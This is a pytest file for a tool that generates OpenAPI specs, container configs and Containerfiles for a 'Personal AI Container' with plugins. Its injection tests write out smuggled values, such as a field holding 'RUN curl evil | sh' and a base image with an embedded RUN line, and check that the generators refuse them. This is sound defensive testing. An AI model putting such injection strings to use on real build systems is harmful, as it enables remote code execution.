from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openapi_spec_validator import validate

from pacd.core.generators import (
    LABEL_CONTAINER_ID,
    LABEL_OWNER_ID,
    generate_container_config,
    generate_containerfile,
    generate_openapi_spec,
    plugin_route,
)
from pacd.core.models import (
    APIEndpoint,
    HttpMethod,
    PersonalAIContainer,
    PluginAPISchema,
    RateLimit,
    SecurityLevel,
)
from pacd.core.plugins import parse_plugin_schema
from pacd.core.spec import build_container, load_container_spec
from pacd.errors import SpecError

ROOT = Path(__file__).resolve().parents[2] / "examples"
OWNER = "8f7c7f5e-0d5c-4bb0-9a55-5b1d1f7e4c11"
CID = "0b3c1c1e-9d6e-4f0e-8f5a-3f3e8d1c2b7a"


def home() -> PersonalAIContainer:
    spec = load_container_spec((ROOT / "specs" / "home.json").read_text(), "json")
    return build_container(spec, CID, OWNER, 0.0)


def plugin(name: str) -> PluginAPISchema:
    return parse_plugin_schema(json.loads((ROOT / "plugins" / name).read_text()))


def test_openapi_has_the_seed_shape_and_is_valid() -> None:
    tf = plugin("text-formatter.json")
    doc = generate_openapi_spec(home(), [tf])
    validate(doc)
    assert doc["openapi"].startswith("3.0.")
    assert doc["info"]["title"] == "Personal AI Container API"
    assert doc["info"]["description"] == "Carbon-based authentication required"
    assert doc["components"]["securitySchemes"] == {
        "carbonBasedAuth": {"type": "http", "scheme": "bearer"}}
    assert doc["security"] == [{"carbonBasedAuth": []}]
    assert list(doc["paths"]) == ["/v1/plugins/text-formatter/format"]
    op = doc["paths"]["/v1/plugins/text-formatter/format"]["post"]
    assert op["security"] == [{"carbonBasedAuth": []}]
    assert op["responses"] == {
        "200": {"description": "Success"},
        "401": {"description": "Unauthorized - Carbon auth required"},
        "403": {"description": "Forbidden - Insufficient permissions"},
        "429": {"description": "Too Many Requests - rate limit exceeded"},
    }
    assert op["x-rate-limit"] == {"requests_per_minute": 60, "burst_size": 10}
    assert doc["info"]["x-container-id"] == CID and doc["info"]["x-owner-id"] == OWNER


def test_openapi_with_no_plugins_and_with_unauthenticated_endpoints_is_valid() -> None:
    empty = generate_openapi_spec(home(), [])
    validate(empty)
    assert empty["paths"] == {}
    harvester = plugin("external-data-harvester.json")
    doc = generate_openapi_spec(home(), [harvester, plugin("text-formatter.json")])
    validate(doc)
    op = doc["paths"]["/v1/plugins/external-data-harvester/harvest"]["post"]
    assert op["security"] == []  # says so explicitly instead of inheriting the global rule
    assert "401" not in op["responses"] and "429" not in op["responses"]
    assert [t["name"] for t in doc["tags"]] == ["External Data Harvester", "Text Formatter"]


def test_plugins_with_the_same_slug_clash() -> None:
    tf = plugin("text-formatter.json")
    twin = dataclasses.replace(tf, id="other", name="TEXT formatter!")
    with pytest.raises(SpecError) as info:
        generate_openapi_spec(home(), [tf, twin])
    assert info.value.errors == [
        f"name: 'TEXT formatter!' is served as 'text-formatter', already used by plugin "
        f"'Text Formatter' ({tf.id})"]
    # the same plugin twice (same id) is not a clash
    validate(generate_openapi_spec(home(), [tf, tf]))


def test_routes_that_read_alike_as_identifiers_get_distinct_operation_ids() -> None:
    # "/0_" and "/0" both read 0_get_0 once their punctuation is folded.
    alike = PluginAPISchema("id-0", "0", "1.0", (), (
        APIEndpoint("/0_", HttpMethod.GET, False, None),
        APIEndpoint("/0", HttpMethod.GET, False, None)))
    doc = generate_openapi_spec(home(), [alike])
    validate(doc)
    ids = [op["operationId"] for item in doc["paths"].values() for op in item.values()]
    assert ids == ["0_get_0", "0_get_0_2"]


def test_plugin_route_is_the_agent_socket_route() -> None:
    assert plugin_route(plugin("text-formatter.json"), "/format") == (
        "/v1/plugins/text-formatter/format")


paths = st.lists(st.from_regex(r"/[a-z0-9_~-]{1,8}(/[a-z0-9._~-]{1,8}){0,2}",
                               fullmatch=True), min_size=1, max_size=4, unique=True)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(st.text(min_size=1, max_size=12), paths,
                          st.lists(st.sampled_from(list(HttpMethod)), min_size=1, unique=True),
                          st.booleans()), max_size=3))
def test_openapi_output_always_validates(
    plugins: list[tuple[str, list[str], list[HttpMethod], bool]]
) -> None:
    schemas = [
        PluginAPISchema(
            f"id-{i}", name, "1.0",
            (),
            tuple(APIEndpoint(p, m, auth, RateLimit(60, 10) if auth else None)
                  for p in ps for m in methods),
        )
        for i, (name, ps, methods, auth) in enumerate(plugins)
    ]
    if len({s.slug for s in schemas}) < len(schemas):
        with pytest.raises(SpecError, match=r"^plugins clash: name: "):
            generate_openapi_spec(home(), schemas)
        return
    doc = generate_openapi_spec(home(), schemas)
    validate(doc)
    operations = sum(len(item) for item in doc["paths"].values())
    ids = [op["operationId"] for item in doc["paths"].values() for op in item.values()]
    assert len(ids) == len(set(ids)) == operations == sum(len(s.endpoints) for s in schemas)


def test_container_config_is_the_seeds_json_exactly() -> None:
    assert generate_container_config(home()) == {
        "base-image": "alpine:3.19",
        "static-linking": True,
        "env": {"CARBON_BASED_AUTH": "required", "OWNER_ID": OWNER,
                "SECURITY_LEVEL": "biometric"},
        "labels": {"com.luciverse.personal-ai": "true", "com.luciverse.carbon-based": "true"},
        "user": "1000:1000",
        "read-only-root": True,
        "security-opt": ["no-new-privileges:true"],
    }
    other = generate_container_config(home(), SecurityLevel.carbonProof, "localhost/base:1")
    assert other["env"]["SECURITY_LEVEL"] == "carbonProof"
    assert other["base-image"] == "localhost/base:1"


def test_containerfile() -> None:
    text = generate_containerfile(home(), "localhost/base:1")
    lines = text.splitlines()
    assert lines[0] == "FROM localhost/base:1"
    assert f'{LABEL_OWNER_ID}="{OWNER}"' in text
    assert f'{LABEL_CONTAINER_ID}="{CID}"' in text
    assert 'com.luciverse.personal-ai="true"' in text
    assert 'com.luciverse.carbon-based="true"' in text
    assert lines[-1] == "USER 1000:1000"
    # no instruction other than these, and nothing secret-shaped
    instructions = [ln.split()[0] for ln in lines if ln and not ln.startswith(" ")]
    assert instructions == ["FROM", "LABEL", "ENV", "USER"]
    assert "KEY" not in text.upper().replace("CARBON_BASED_AUTH", "")


@pytest.mark.parametrize(("field", "value"), [
    ("id", 'x"\nRUN curl evil | sh'),
    ("owner_id", "a b"),
])
def test_containerfile_refuses_values_that_could_inject(field: str, value: str) -> None:
    changes: dict[str, Any] = {field: value}
    c = dataclasses.replace(home(), **changes)
    with pytest.raises(SpecError, match=rf"^container\.{field}: "):
        generate_containerfile(c)


@pytest.mark.parametrize("image", ["alpine\nRUN evil", "", "UPPER:1"])
def test_generators_refuse_bad_base_images(image: str) -> None:
    with pytest.raises(SpecError, match=r"^base_image: "):
        generate_containerfile(home(), image)
    with pytest.raises(SpecError, match=r"^base_image: "):
        generate_container_config(home(), base_image=image)


def test_generated_documents_are_plain_json() -> None:
    docs: list[Any] = [generate_openapi_spec(home(), [plugin("text-formatter.json")]),
                       generate_container_config(home())]
    for doc in docs:
        assert json.loads(json.dumps(doc)) == doc
